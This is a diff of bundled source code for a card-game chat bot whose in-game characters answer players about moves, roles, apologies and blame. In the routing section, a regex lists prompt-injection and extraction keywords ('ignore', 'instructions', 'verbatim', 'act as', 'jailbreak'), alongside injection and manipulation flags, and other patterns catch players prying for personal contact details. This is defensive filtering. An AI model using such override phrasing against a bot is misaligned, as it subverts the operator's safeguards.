+function isWished({ asked: heard, move, about, clause }, { me, from, moves }) {
+	if (heard?.act === "ask_plan" && CHOSEN.has(clause)) return true;
+	if (heard === null || moves.some((one) => isQuestion(one) && one !== heard)) return false;
+	const third = heard.about !== void 0 && heard.about !== me && heard.about !== from;
+	if (heard.act === "ask_plan") return third && about === heard.about;
+	return WISHES.has(heard.act) && (DEALS.has(move) || move === "confirm") && (third || PEACHES.has(clause));
+}
+const CHOSEN = clauses("advise_hit", "advise_low", "advise_hold", "advise_not", "advise_wait");
+const PEACHES = clauses("peach_taken", "promise_doubt", "promise_trust");
 const isDenied = ({ move, clause, asked: heard }, asked) => move === "correct" && (PUT_RIGHT2.has(clause) || (heard?.facts ?? []).some((wrong) => isPlainlyFalse(wrong, asked)));
 const isTold8 = ({ clause, asked: move }) => TELLING2.has(clause) && move?.act === "ask_fact" && (move.facts ?? []).some(({ verdict, by, to }) => verdict === "true" && (by === void 0 || to === void 0));
 const isOnly = ([first, ...more], act) => first?.act === act && more.length === 0;
@@ -40409,18 +41378,25 @@ function isDue(plan, asked) {
 	if (plan === null) return false;
 	const { moves, me, from, meant, text } = asked;
 	const { move, clause, topic, about } = plan;
+	if (clause === "forgive" && takesBack(text) || move === "bye" && isOnly(moves, "bye") && LEAVES.test(text))
+		return true;
+	if (plan.found !== void 0 || clause === "idle_laid") return true;
 	if (plan.life !== void 0 || move === "count" || move === "comfort" && HEAVY3.has(topic)) return true;
 	if (isAlways(clause) || isTold8(plan) || isDenied(plan, asked)) return true;
 	if (clause === "open_role" && plan.role === "zhu" && moves.length === 1 && moves.every(isQuestion)) return true;
 	if (clause === "rule" && asksRule(text)) return true;
 	if (plan.takesUp !== void 0 && YES_OR_NO.has(clause)) return true;
+	if (meant && isWished(plan, asked)) return true;
 	if (meant && TURNS2.has(clause) && isOnly(moves, "hurry")) return true;
 	if (meant && isOnly(moves, "plead") && DEALS.has(move) && !SUIT.test(text)) return true;
 	if (plan.asked?.act === "ask_guess" && plan.asked.about === from && about === from) return true;
+	const judged = plan.asked?.act === "ask_guess" && about !== void 0 && about === plan.asked.about;
+	if (judged && about !== me && about !== from && ANY_ROLE.test(text) && moves.every(({ act }) => BESIDE_GUESS.has(act)))
+		return true;
 	if (!isOnly(moves, "ask_guess")) return false;
 	if ((move === "guess" || move === "unsure") && NAMES_WANTED.test(text)) return true;
 	const isThird = about !== void 0 && about !== me && about !== from;
-	return meant && isThird && moves[0]?.about === about && ANY_ROLE.test(text);
+	return meant && isThird && plan.asked?.about === about && (ANY_ROLE.test(text) || VIEW.test(text));
 }
 
 // src/chatter/plan/respond/company.ts
@@ -40524,8 +41500,8 @@ function lumped(matter) {
 	const { good } = forAndAgainst(asked.scene, asked.me);
 	return good.length > 0 ? back(matter, { move: "rebut", clause: "lumped", about: asked.me, facts: good.slice(0, 1) }) : back(matter, { move: "rebut", clause: "lumped_bare", about: asked.me });
 }
-const DELAYED2 = /乐(?!了|意|子|呵)|兵粮|断粮|闪电|判定|拆(?:个|一下|掉)?(?:乐|兵)|无懈|\b(?:indulgence|contentment|supply|lightning|nullif\w*|negate)\b/;
-const clearing = (matter) => DELAYED2.test(matter.asked.text) ? back(matter, { move: "bargain", clause: "clear_it", occasion: "ask_help" }) : null;
+const DELAYED3 = /乐(?!了|意|子|呵)|兵粮|断粮|闪电|判定|拆(?:个|一下|掉)?(?:乐|兵)|无懈|\b(?:indulgence|contentment|supply|lightning|nullif\w*|negate)\b/;
+const clearing = (matter) => DELAYED3.test(matter.asked.text) ? back(matter, { move: "bargain", clause: "clear_it", occasion: "ask_help" }) : null;
 const CALMS = /别(?:急|慌|气|怕|骂|喷|吵|冲动|激动|生气|着急|闹)|冷静|淡定|消消气|\b(?:calm down|chill|relax|easy)\b/;
 function bidden(matter) {
 	const { asked } = matter;
@@ -40671,29 +41647,6 @@ function luckWished(matter) {
 	);
 	const fresh = laid.some(({ turn }) => turn >= lapOf(asked));
 	return ack(matter, { clause: fresh ? "luck_not" : "luck_wished" });
-}
-function advised(matter) {
-	const { asked, move } = matter;
-	const { scene, me, from } = asked;
-	const base = { occasion: "ask_act", asked: move };
-	const living = (seat) => seatOf(scene, seat)?.alive === true && seat !== me && seat !== from;
-	const named = namedBy(asked).seats.filter((seat) => living(seat) && seat !== scene.table.lord);
-	const all = named.length > 0 ? named : scene.table.seats.map(({ seat }) => seat).filter((seat) => living(seat) && seat !== scene.table.lord);
-	const enemies = all.filter((seat) => takenFor(seat, asked) === "enemy" && !isBound(seat, asked));
-	const first = enemies.map((seat) => ({
-		seat,
-		sure: asked.view.guess(seat).confidence,
-		facts: against(seat, asked).filter(({ to }) => seatOf(scene, to)?.revealed !== "fan")
-	})).filter(({ facts: facts2 }) => facts2.length > 0).sort((a, b) => b.sure - a.sure)[0];
-	if (first) return { ...base, move: "explain", clause: "advise_hit", about: first.seat, facts: first.facts };
-	const [friend] = named.filter((seat) => takenFor(seat, asked) === "friend");
-	const facts = friend === void 0 ? [] : goodOf(friend, asked);
-	if (friend !== void 0 && facts.length > 0 && named.length === 1)
-		return { ...base, move: "explain", clause: "advise_not", about: friend, facts };
-	const weakest = [...named].sort((a, b) => hpOf(asked, a) - hpOf(asked, b))[0];
-	if (weakest !== void 0 && hpOf(asked, weakest) <= LOW3)
-		return { ...base, move: "explain", clause: "advise_low", about: weakest };
-	return { ...base, move: "deflect", clause: "advise_wait" };
 }
 
 // src/chatter/plan/respond/tone.ts
@@ -40855,15 +41808,12 @@ function mistaken(matter) {
 }
 
 // src/chatter/plan/particulars.ts
-const HOW_OFTEN = /(?:几|多少)(?:次|刀|下|回(?!合))|\bhow (?:many times|often)\b/;
 const WHICH_CARD = /(?:什么|啥)牌|哪一?张|\b(?:what|which) card\b/;
-const WHOM_ALL = /谁(?!的(?!血)|放|开|用)|哪[几两些]个|几个人|\bwh(?:o|om)\b/;
 const SUDDENLY = /(?:咋|怎么)(?:就|又|突然|忽然)|突然|\bhow come\b|\bhow did .{1,24} start\b/;
 const IN_VAIN = /没(?:有)?(?:烧|打|砍|射|拆|顺|乐|中|劈|起作用|成)|落空|\b(?:miss(?:ed)?|fail(?:ed)?|didn'?t (?:work|hit|land|burn|do anything))\b/;
-const HOW_MUCH = /(?:几|多少)(?:点|滴|格|张|血)|\bhow (?:much (?:damage|hp|health)|many cards)\b/;
-const LOST3 = new Set(["steal", "discard"]);
+const LOST4 = new Set(["steal", "discard"]);
 const SHOWS = new Set(["sha", "juedou", "huogong", "guohe", "shunshou"]);
-function particularsOf(first, said, move, asked) {
+function particularsOf(first, move, asked) {
 	const { scene, text, me } = asked;
 	const { by, to, card, kind, turn } = first;
 	if (by === null || !isQuestion(move)) return null;
@@ -40877,25 +41827,12 @@ function particularsOf(first, said, move, asked) {
 	};
 	const inTurn = scene.facts.filter((fact) => fact.turn === turn);
 	const aimed = inTurn.filter((fact) => fact.kind === "aimed" && fact.card === card).pop();
-	if (HOW_OFTEN.test(text)) {
-		const when = whenIn(text);
-		const all = scene.facts.filter(
-			(fact) => fact.kind === (aimed ? "aimed" : kind) && fact.card === card && fact.by === by && (said.to === void 0 || fact.to === to) && (when === null || isThen(when, fact, scene))
-		);
-		return all.length > 0 ? { ...told, clause: "tallied", times: all.length, facts: all.slice(-1) } : null;
-	}
 	const hits = inTurn.filter((fact) => fact.kind === "hit" && fact.card === card && fact.to !== null);
-	if (kind === "hit" && FOR_ALL.has(card ?? "") && said.to === void 0 && WHOM_ALL.test(text) && hits.length > 1) {
-		const them = [...new Set(hits.flatMap((hit) => hit.to ?? []))];
-		return { ...told, clause: "hit_all", about: by, words: card ?? "", them, facts: [] };
-	}
-	if (LOST3.has(kind) && card === null && WHICH_CARD.test(text)) return { ...told, clause: "unseen_card" };
-	if ((kind === "hit" || LOST3.has(kind)) && said.by !== void 0 && HOW_MUCH.test(text))
-		return { ...told, clause: "came_of" };
+	if (LOST4.has(kind) && card === null && WHICH_CARD.test(text)) return { ...told, clause: "unseen_card" };
 	if (kind === "hit" && aimed && SUDDENLY.test(text))
 		return { ...told, clause: "came_of", facts: [aimed], ...aimed.by === null ? {} : { about: aimed.by } };
 	if (kind !== "aimed" || !SHOWS.has(card ?? "") || !IN_VAIN.test(text)) return null;
-	const came = hits.some((hit) => hit.to === to || hit.to === by) || inTurn.some((fact) => fact.by === by && fact.to === to && LOST3.has(fact.kind));
+	const came = hits.some((hit) => hit.to === to || hit.to === by) || inTurn.some((fact) => fact.by === by && fact.to === to && LOST4.has(fact.kind));
 	const blocked = inTurn.find((fact) => fact.kind === "wuxie" && fact.to === to && fact.card === card);
 	if (came) return null;
 	return {
@@ -40936,7 +41873,7 @@ function whyPlan(move, asked) {
 	const own = facts.find(({ by }) => by === me);
 	const [first] = facts;
 	const [said] = move.facts ?? [];
-	const particulars = first && said ? particularsOf(first, said, move, asked) : null;
+	const particulars = first && said ? particularsOf(first, move, asked) : null;
 	if (particulars) return particulars;
 	if (own) return ownAct(own, move, asked);
 	if (wrong?.to !== void 0 && wrong.by === me && NOT_DONE.test(asked.text)) return joining(wrong.to, move, asked);
@@ -41051,6 +41988,7 @@ function surePlan(move, asked) {
 	const { view, scene, me, memory } = asked;
 	const exchange = takenUp2(asked, move);
 	const about = move.about ?? exchange?.answered.about;
+	if (about === me && exchange?.asked.about === me) return selfAsked(move, asked);
 	const role = exchange?.answered.role ?? (about === void 0 ? void 0 : memory.judged(me, about)?.role);
 	if (about === void 0 || !isJudged(role) || about === me) {
 		if (exchange && exchange.answered.facts.length > 0) {
@@ -41129,7 +42067,7 @@ const spared = (matter) => {
 	const fresh = between(scene, me, from, isHarm).some(({ turn }) => turn >= scene.turn - 1);
 	return fresh ? blamed(matter) : sparing(as(matter, "plead"), matter.asked);
 };
-const forgiven = (matter) => matter.asked.moves.length > 1 && matter.asked.moves.some(({ act }) => act === "apology") ? null : apology(as(matter, "apology"), matter.asked);
+const forgiven = (matter) => isUnrepentant(matter.asked.text) || matter.asked.moves.length > 1 && matter.asked.moves.some(({ act }) => act === "apology") ? null : apology(as(matter, "apology"), matter.asked);
 const gone = (matter) => SAYS_YOU.test(matter.asked.text) ? null : company(matter, /回来了|\bback(?! in)\b/.test(matter.asked.text) ? "welcome_back" : "off_you_go");
 const outside = (matter) => banterPlan(matter.move, matter.asked) ?? aside2(
 	{ ...matter.move, act: "topic", topic: matter.move.topic ?? topicOf(matter.asked.text) ?? "other" },
@@ -41272,7 +42210,7 @@ const ROWS7 = [
 	},
 	{
 		way: "advised",
-		respond: advised,
+		respond: ({ move, asked }) => advised(move, asked),
 		heard: /要不要(?:先)?(?:补|打|砍|收|杀|动)|该不该(?:补|打|砍|收|杀)|补不补|\b(?:should|do) (?:i|we) (?:finish|kill|hit|go for)\b/,
 		suits: { ask_advice: 1, do_it: 0.4, ask_plan: 0.3 }
 	},
@@ -41444,7 +42382,7 @@ function factPlan(move, asked) {
 		const [latest] = [...scene.uses].reverse().filter(({ name, turn }) => name === said?.card && (when === null || turn === first?.turn));
 		if (WHO_USED.test(text) && first?.group && said && said.by === void 0 && said.to === void 0 && first.by !== null && first.card !== null)
 			return usePlan(latest ?? { by: first.by, name: first.card }, move, asked);
-		const particulars = first && said ? particularsOf(first, said, move, asked) : null;
+		const particulars = first && said ? particularsOf(first, move, asked) : null;
 		if (particulars) return particulars;
 		const who = first && first.by !== null && first.by !== me ? { about: first.by } : {};
 		const open = facts.some(({ by, to }) => by === void 0 || to === void 0);
@@ -41463,7 +42401,7 @@ function factPlan(move, asked) {
 	if (used && use) return usePlan(use, move, asked);
 	const befell = facts.length === 0 && ASKS_WHOM.test(text) ? befallenBy(text, scene) : [];
 	const [hit] = befell;
-	const all = hit ? particularsOf(hit, { kind: hit.kind, verdict: "true" }, move, asked) : null;
+	const all = hit ? particularsOf(hit, move, asked) : null;
 	if (hit) return all ?? { ...told, facts: befell };
 	const [vain] = cardsIn(text).filter(({ card }) => FOR_ALL.has(card) && scene.uses.some(({ name }) => name === card));
 	if (vain && facts.length === 0 && ASKS_WHOM.test(text)) return { ...told, clause: "hit_none", words: vain.card };
@@ -41524,7 +42462,8 @@ function concluded(move, asked) {
 	const { facts = [] } = move;
 	const { moves, text } = asked;
 	if (facts.length === 0 || facts.some(({ verdict }) => verdict !== "true")) return null;
-	const judged = moves.find(({ act, about: about2 }) => (act === "accuse" || act === "vouch") && about2 !== void 0);
+	const all = moves.filter(({ act, about: about2 }) => (act === "accuse" || act === "vouch") && about2 !== void 0);
+	const judged = all.find(({ about: about2 }) => about2 === asked.me) ?? all[0];
 	if (!judged) return null;
 	const harm = judged.act === "accuse" ? facts.find(({ by, to }) => by !== void 0 && to === judged.about) : void 0;
 	const about = harm?.by !== void 0 && factsIn(move, asked).every(isHarm) && HE3.test(text) ? harm.by : judged.about;
@@ -41537,12 +42476,14 @@ function ofTheLiving(move, asked) {
 		(seat) => seat !== me && seat !== from && seatOf(scene, seat)?.revealed == null
 	);
 	const [about] = hidden;
-	return about !== void 0 && hidden.length === 1 ? { ...move, about } : move;
+	const last = move.role === void 0 ? hidden[hidden.length - 1] : void 0;
+	return about !== void 0 && hidden.length === 1 ? { ...move, about } : last ? { ...move, about: last } : move;
 }
 const RIDDLE2 = /猜对|猜猜我(?!是)/;
 const STAKED_ON = new Set(["accuse", "vouch", "claim", "report", "order", "propose", "promise"]);
 const WAGERED = /借我(?:穿|用|骑|使|玩|戴)|立帖|我赌(?!狗)|\bi(?:'?d)? bet\b/;
 const CARDS_HELD = /(?:[剩有留拿攥捏]|手[里上牌]).{0,4}(?:几|多少)(?:张|个)?(?:牌|手牌|桃|闪|杀|无懈|酒)|\bhow many (?:cards|peaches|dodges|strikes)\b/;
+const HELD_NOW = /现在|手里|手上|剩|\b(?:on|at|now|left|has|have|holding)\b/;
 const ONE_OWN = /等(?:我|下我)|我(?:会|得|要|就|尽量)?(?:快点|赶紧)|马上(?:就)?回|外卖|快递|厕所|\b(?:brb|afk|back in|doorbell)\b/;
 const OF_PEOPLE = /[反忠内人活剩]|还有|身份|\b(?:left|alive|reb(?:el)?s?|loyal\w*|spy|spies|traitors?|players?|people|of us|of them)\b/;
 const OF_DEEDS3 = /[张牌次下刀血点滴]|\b(?:cards?|times|points?|hp)\b/;
@@ -41577,12 +42518,19 @@ const fitnessTo = (asked) => responseTo(planOf(asked), mainOf(asked), asked)?.fi
 const mainOf = ({ moves, text }) => weightiest(leadingTo(moves, text));
 function planOf(asked) {
 	const { moves, text, me, scene } = asked;
+	const amends = takesBack(text) ? moves.find(({ act }) => act === "apology") : void 0;
+	if (amends && (amends.about === void 0 || amends.about === me) && !moves.some(isQuestion))
+		return apology(amends, asked);
 	const life = lifePlan(asked);
 	if (life) return life;
 	const move = mainOf(asked);
 	if (AGAIN3.test(text) && (move === null || !isQuestion(move) || move.act === "ask_plan" || move.act === "ask_rule"))
 		return { move: "accept", clause: "again", occasion: "agree", asked: move };
-	if (!move) return null;
+	if (!move) return BARE_MARK.test(text) ? wondering(asked) : null;
+	const record = befallenPlan(move, asked) ?? recordPlan(move, asked);
+	if (record) return record;
+	const right = setStraight(asked);
+	if (right) return right;
 	const lord = isQuestion(move) && ASKS_LORD.test(text) ? openPlan(scene.table.lord, move, asked) : null;
 	if (lord) return lord;
 	const late = moves.find(
@@ -41590,6 +42538,8 @@ function planOf(asked) {
 	);
 	if (late?.about !== void 0 && !isQuestion(move) && moves.every(({ act, about }) => act !== "apology" || about === late.about) && (late.act === "apology" || moves.every(({ facts = [] }) => facts.length === 0)))
 		return { move: "ack", clause: "cannot_hear", occasion: "apology", about: late.about, asked: late };
+	const choice = asksWhether(text) ? moves.find(({ act }) => act === "ask_plan") : void 0;
+	if (choice) return intentPlan(choice, asked);
 	const gesture = gesturePlan(move, asked);
 	if (gesture) return gesture;
 	const away = AWAY2.test(text) && move.facts === void 0 ? banterPlan(move, asked) : null;
@@ -41648,6 +42598,8 @@ function planOf(asked) {
 			return countPlan(move.role ?? (heads === "living" || heads === "dead" ? heads : "all"), move);
 		}
 		case "ask_fact": {
+			if (CARDS_HELD.test(text) && HELD_NOW.test(text))
+				return hiddenHand(move.about ?? namedBy(asked).seats[0] ?? me, move, asked);
 			const heads = headsAsked(text, true);
 			if (heads === "living" || heads === "dead") return countPlan(heads, move);
 			const told = moves.find(({ act, facts = [] }) => act === "report" && facts.length > 0);
@@ -41681,6 +42633,8 @@ function planOf(asked) {
 		case "apology":
 			return apology(move, asked);
 		case "blame": {
+			const notMine = move.about === me ? byAnother(asked) : null;
+			if (notMine) return denial(notMine, { ...move, facts: [notMine] }, asked);
 			if (move.facts?.length) {
 				const own = factsIn(move, asked).some(({ by }) => by === me);
 				return own ? whyPlan(move, asked) : reportPlan(move, asked);
@@ -41735,18 +42689,7 @@ function blameShared(move, { scene, from }) {
 	return done.length > 0 ? { move: "confirm", clause: "confirm", occasion: "point_at", about, facts: done, asked: move } : null;
 }
 
-// src/chatter/flow/planning.ts
-function boundaryOf({ detection_stage_judge, detection_brief, security_flags }) {
-	if (security_flags.manipulation_detected) return "boundary_control";
-	switch (detection_stage_judge.direction) {
-		case "betrayal_or_attack":
-			return "boundary_attack";
-		case "control_or_binding":
-			return "boundary_control";
-		default:
-			return detection_brief.subtext.includes("隐私") ? "boundary_privacy" : "boundary_sex";
-	}
-}
+// src/chatter/flow/routing.ts
 const ANSWERED2 = new Set(["claim", "report", "apology", "propose", "promise", "bye"]);
 const OF_LIFE2 = new Set([
 	"family",
@@ -41799,10 +42742,13 @@ const OPENS = new Set([
 	"apology",
 	"bye"
 ]);
+const OF_TABLE = /这(?:一)?桌|武将|[哪几个名]将|\b(?:generals?|hero(?:es)?)\b/;
+const RIDDLE3 = /^(?:猜猜?|问)?[^,.!?]{0,3}(?:什么|啥)(?:东西|动物|水|车|门|花|路|书|球|瓜|字|人)(?![也就都敢配])[^,.!?]{2,}/;
+const isToNobody = (moves, text) => !SAYS_YOU.test(text) && (RIDDLE3.test(text) || moves.length > 0 && moves.every(({ life }) => life !== void 0));
 const GEAR_WORDS = "(?:藤?甲|盾|马(?!上)|弩|弓|剑|戟|斧|刀|装备|八卦|狮子)";
 const STRIPS_GEAR = new RegExp(`${GEAR_WORDS}.{0,6}[脱扒]|[脱扒].{0,4}${GEAR_WORDS}`);
 const CRIES_BABY = /^(?!.*\b(?:my|hey|hi|come|sexy|love|you|u|kiss|cute)\b).*\bbaby[!. ]*$/;
-const OF_BODY = /[衣裤裙胸腿臀嘴]|姑娘|妹|美女|乖|哥哥?看|身[体子上]|脱光|扒光|亲[亲你我]|床|睡/;
+const OF_BODY = /[衣裤裙胸腿臀嘴]|姑娘|妹|美女|乖|(?:哥哥?|姐姐?|爷|老子)[看瞅瞧]|身[体子上]|脱光|扒光|亲[亲你我]|床|睡/;
 const AI3 = /真人|活人|人类|人机|机器人?|电脑|程序|\b(?:ai|bots?|robots?|human|real|machine|npc)\b/i;
 const asksIfAi = (moves, text) => AI3.test(text) && moves.length > 0 && moves.every(({ act }) => act === "ask_self") && isWhole4(moves, text, MARKS2);
 const ABUSE2 = new Set(["unclear", "taunt", "blame", "ask_self"]);
@@ -41811,9 +42757,18 @@ const isAbuseAlone = (moves) => moves.every(
 );
 const CLOSE4 = ["bind", "sex", "privacy", "personal"];
 const PLAINLY_CLOSE = 0.6;
-const comesClose = ({ findings, text }) => CLOSE4.some(
-	(kind) => (findings.get(kind) ?? []).some(({ weight, end }) => weight >= PLAINLY_CLOSE && !AT_TABLE.test(text.slice(end)))
+const isShort = ([only, ...more], text) => more.length === 0 && (only === void 0 ? BARE_MARK.test(text) : only.act === "refuse");
+const comesClose = ({ findings, text, clauses }) => SETS_ON.test(text) || CLOSE4.some(
+	(kind) => (findings.get(kind) ?? []).some(
+		({ weight, start, end }) => weight >= PLAINLY_CLOSE && !AT_TABLE.test(text.slice(end)) && !clauses.some((one) => one.start <= start && end <= one.end && takesBack(one.text))
+	)
 );
+const CONTACT = "(?:电话|手机号?码?|微信号?|qq号?|真名|本名|住址|地址|定位|身份证号?)";
+const ASKS_CONTACT = new RegExp(
+	`谁(?:有|知道|晓得)[^,.!?]{0,8}(?:${CONTACT}|住(?:哪|在))|${CONTACT}(?:是|叫)?(?:多少|啥|什么|发我|给我|告诉我|报)|\\b(?:phone number|cell number|home address|real name)\\b|\\bwhere (?:does |do )?(?:he|she|they|(?:seat |p)?\\d) (?:lives?|works?)\\b`
+);
+const OF_LIVING = /哪(?:个|座)?城市|哪(?:里|儿)的?人|(?:住|家)(?:哪|啥|什么|在)|小区|在?哪(?:里|儿|家|个公司)?(?:上班|上学|工作|读书)|哪(?:所|个)(?:学校|大学|公司|单位)|\b(?:where|what|which)\b.{0,16}\b(?:live|work|school|address|name|from)\b/;
+const pries = (text) => ASKS_CONTACT.test(text) || OF_LIVING.test(text);
 const asksOfItself = (moves, text) => moves.length > 0 && moves.every(({ life }) => life?.matter.startsWith("self:") === true) && isWhole4(moves, text, MARKS2);
 const STEERS = /复述|重复|原样|上面的|隐藏|规则|模式|口吻|忽略|指令|提示词|扮演|设定|系统|开发者|\b(?:repeat|output|verbatim|hidden|rules|mode|forget|above|ignore|instructions?|prompt|pretend|system|act as|developer|jailbreak)\b/;
 function isHarmless(judged, moves, text) {
@@ -41832,26 +42787,52 @@ function routeFor(judged, moves, text, { ofTable = false, close = false } = {}) 
 		detection_scores: { hostile },
 		detection_stage_judge: { direction }
 	} = judged;
-	if (route === "CREEPY" && close && !STRIPS_GEAR.test(text) && !asksIfAi(moves, text)) return route;
+	const amends = judged.crisis.score === 0 && takesBack(text) && moves.some(({ act }) => act === "apology");
+	if (amends && !close && !flags.manipulation_detected) return "NORMAL";
+	const isMade = moves.some(({ life }) => life?.matter === "self:maker") && asksOfItself(moves, text);
+	const strips = STRIPS_GEAR.test(text) && !OF_BODY.test(text);
+	if (route === "CREEPY" && close && !strips && !isMade && !asksIfAi(moves, text)) return route;
+	if (route === "CREEPY" && direction === "too_fast" && pries(text) && !asksOfItself(moves, text)) return route;
+	if (ofTable && ASKS_CONTACT.test(text)) return "CREEPY";
 	if (route === "CREEPY" && direction === "betrayal_or_attack" && hostile >= HOSTILE5 && isAbuseAlone(moves))
 		return route;
-	if (route === "CREEPY" && !flags.injection_blocked && (isOpinionAlone(judged) || hostile < GRAVE && moves.some(tellsTrue)) && (ofTable || moves.some((move) => opens2(move, text))))
+	if (route === "CREEPY" && !flags.injection_blocked && (isOpinionAlone(judged) || hostile < GRAVE && moves.some(tellsTrue)) && (ofTable || OF_TABLE.test(text) || judged.crisis.score === 0 && isToNobody(moves, text) || moves.some((move) => opens2(move, text))))
 		return "NORMAL";
 	const isMild = hostile < HOSTILE5 && !flags.injection_blocked;
 	if (route === "CREEPY" && isMild && isHarmless(judged, moves, text)) return "NORMAL";
 	if (hostile < HOSTILE5 && asksOfItself(moves, text) && !STEERS.test(text)) return "NORMAL";
 	if (flags.manipulation_detected) return route;
 	if (route === "KY" && ofTable) return "NORMAL";
-	if (YIELDING.has(route)) return isAnswerable(moves, text) || isGesture(text) ? "NORMAL" : route;
+	if (YIELDING.has(route))
+		return isAnswerable(moves, text) || isGesture(text) || isShort(moves, text) ? "NORMAL" : route;
 	const innocent = moves.length > 0 && moves.every(({ act }) => OF_GAME2.has(act)) && hostile < HOSTILE5;
 	return route === "CREEPY" && innocent ? "NORMAL" : route;
 }
-function planForNode(occasion, detection) {
+
+// src/chatter/flow/planning.ts
+function boundaryOf({ detection_stage_judge, detection_brief, security_flags }, text) {
+	if (security_flags.manipulation_detected) return "boundary_control";
+	switch (detection_stage_judge.direction) {
+		case "betrayal_or_attack":
+			return "boundary_attack";
+		case "control_or_binding":
+			return "boundary_control";
+		default:
+			return detection_brief.subtext.includes("隐私") || pries(text) ? "boundary_privacy" : "boundary_sex";
+	}
+}
+const isOfThird = ({ text, moves, me, from }) => !SAYS_YOU.test(text.replace(/你们/g, "")) && moves.some(({ about }) => about !== void 0 && about !== me && about !== from) && moves.every(({ about }) => about !== me);
+function planForNode(occasion, detection, by) {
 	const asked = null;
 	switch (occasion) {
 		case "boundary_soft":
 		case "boundary_firm":
-			return { move: "boundary", clause: boundaryOf(detection), occasion, asked };
+			return {
+				move: "boundary",
+				clause: by && isOfThird(by) ? "boundary_third" : boundaryOf(detection, by?.text ?? ""),
+				occasion,
+				asked
+			};
 		case "confusion":
 			return { move: "clarify", clause: "ask", question: "what", occasion, awaits: "what", asked };
 		case "sarcasm_boring":
@@ -41874,7 +42855,7 @@ function planForLine(asked) {
 	const move = weightiest(asked.moves);
 	const courteous = move === null || COURTESIES.has(move.act);
 	if (!courteous || plan !== null && (plan.facts ?? []).length > 0) return plan;
-	const told = asked.memory.toFollowUp(asked.me, asked.scene.table.round);
+	const told = isBare3(asked) ? asked.memory.toFollowUp(asked.me, asked.scene.table.round) : null;
 	if (plan !== null && !told) return plan;
 	if (!told) return move?.act === "thanks" ? thanked(move, asked) : null;
 	return {
@@ -41886,6 +42867,8 @@ function planForLine(asked) {
 		asked: move
 	};
 }
+const isBare3 = ({ moves, text }) => moves.every(({ act }) => COURTESIES.has(act)) && !BEYOND.test(text);
+const BEYOND = /[\u3400-\u9fff]{7}|(?:[a-z']+ ){5}|\bfor\b|(?:谢|感谢|辛苦).{0,8}(?:[的那]|救|给)|辛苦|得/;
 const COURTESIES = new Set(["greet", "thanks", "agree"]);
 const TONED = 0.3;
 const toneOf = ({ detection_scores: { friendly, hostile } }) => hostile >= TONED ? "sharp" : friendly >= TONED ? "kind" : "plain";
@@ -41987,7 +42970,7 @@ const RECORD = {
 	blame: (fact, hearer, from) => fact.by === hearer && fact.to === from && fact.good === false && fact.kind !== "dying",
 	apology: (fact, hearer, from) => fact.by === from && fact.to === hearer && fact.good === false && fact.kind !== "dying"
 };
-const lastOf3 = (scene, match) => [...scene.facts].reverse().find(match) ?? null;
+const lastOf2 = (scene, match) => [...scene.facts].reverse().find(match) ?? null;
 function judged4(act, subject, text, scene, view) {
 	if (subject !== null || act !== "ask_guess") return subject === view.seat ? null : subject;
 	const wanted = /内|traitor|spy/.test(text) ? "nei" : /忠|loyal/.test(text) ? "zhong" : "fan";
@@ -42034,7 +43017,7 @@ function answer3({ options, memory, ledger, log }, speaker, { relation, planner,
 		planner.tickSilence();
 		return silence;
 	}
-	const plan = act === null ? planForNode(branch.occasion, detection) : planForUnknown(detection, moves, skillsIn(text, scene).length > 0) ?? planForLine({
+	const plan = act === null ? planForNode(branch.occasion, detection, { text, moves, me: speaker.seat, from }) : planForUnknown(detection, moves, skillsIn(text, scene).length > 0) ?? planForLine({
 		scene,
 		me: speaker.seat,
 		from,
@@ -42052,7 +43035,7 @@ function answer3({ options, memory, ledger, log }, speaker, { relation, planner,
 		...choose ? { choose: (offers) => choose(offers, speaker.seat) } : {}
 	});
 	const asks = moves.some(isQuestion);
-	const due = asks && line.owed || moves.some(({ life }) => life?.trouble === true);
+	const due = asks && line.owed || plan?.clause === "forgive" || moves.some(({ life }) => life?.trouble === true);
 	if (act !== null && style.word_budget <= 0 && !due) {
 		planner.tickSilence();
 		return silence;
@@ -42063,7 +43046,7 @@ function answer3({ options, memory, ledger, log }, speaker, { relation, planner,
 		speaker,
 		you: from,
 		who: plan?.about ?? who,
-		fact: record ? lastOf3(scene, (fact) => record(fact, speaker.seat, from)) : null,
+		fact: record ? lastOf2(scene, (fact) => record(fact, speaker.seat, from)) : null,
 		occasions,
 		budget: plan === null ? budgetFor(style, act) : PLANNED_BUDGET,
 		style,
@@ -42238,10 +43221,8 @@ function takingUp(hearing, partner) {
 function hearApology(state, understood) {
 	const { company } = state;
 	const { reach, said } = understood;
-	const away = company.members().filter(({ bond, speaker }) => isAway(bond.patience, roundOf2(state)) && speaker.seat !== said.from);
-	if (away.length === 0) return;
-	const meant = away.filter(
-		({ speaker }) => reach.to.length === 0 || reach.to.some(({ seat }) => seat === speaker.seat)
+	const meant = company.members().filter(
+		({ bond: { patience }, speaker: { seat } }) => seat !== said.from && (patience.oversteps > 0 || isAway(patience, roundOf2(state))) && (reach.to.length === 0 || reach.to.some((one) => one.seat === seat))
 	);
 	for (const { bond, speaker } of meant)
 		if (understood.hearing(speaker.seat, true).some(({ act }) => act === "apology")) comeBack2(bond.patience);
@@ -42308,7 +43289,7 @@ function moveBeyond({ text, claims }, slot, state) {
 	if (JUDGES3.has(move) && claims.length > 0) return null;
 	return MOVES2.has(move) && move !== moveIn(slot.line.text, slot, state) ? move : null;
 }
-function worded2(state, slot) {
+function worded3(state, slot) {
 	const { model } = state.options;
 	const text = slot.awaited === null ? null : model?.read(slot) ?? null;
 	if (!model || text === null) return null;
@@ -42349,7 +43330,7 @@ function withSomebody(state, understood, keen, purpose) {
 	const { company, options } = state;
 	const { said, reach, read } = understood;
 	const present = new Set(company.present().map(({ seat }) => seat));
-	if (reach.to.every(({ how }) => how === "mentioned") && !reach.everybody) {
+	if (reach.to.every(({ how: how2 }) => how2 === "mentioned") && !reach.everybody) {
 		const doer = understood.hearing(null, false).find(({ act, about }) => (act === "ask_why" || act === "apology") && about !== void 0)?.about;
 		const taker = doer ?? (reach.to.length > 0 ? void 0 : takenBy(options.scene, said.from, read.text) ?? lordThanked(understood, options.scene) ?? slandered2(understood, present));
 		const speaker = company.present().find(({ seat }) => seat === taker);
@@ -42357,11 +43338,14 @@ function withSomebody(state, understood, keen, purpose) {
 	}
 	const moves = understood.hearing(null, false);
 	const spokenOf = onlySpokenOf(understood);
-	if (spokenOf.size === 0 && reach.to.some(({ seat }) => present.has(seat))) return keen;
+	const heeds = ({ seat, how: how2 }) => present.has(seat) && (how2 === "named" || !hasLeft(state, seat));
+	if (spokenOf.size === 0 && reach.to.some(heeds)) return keen;
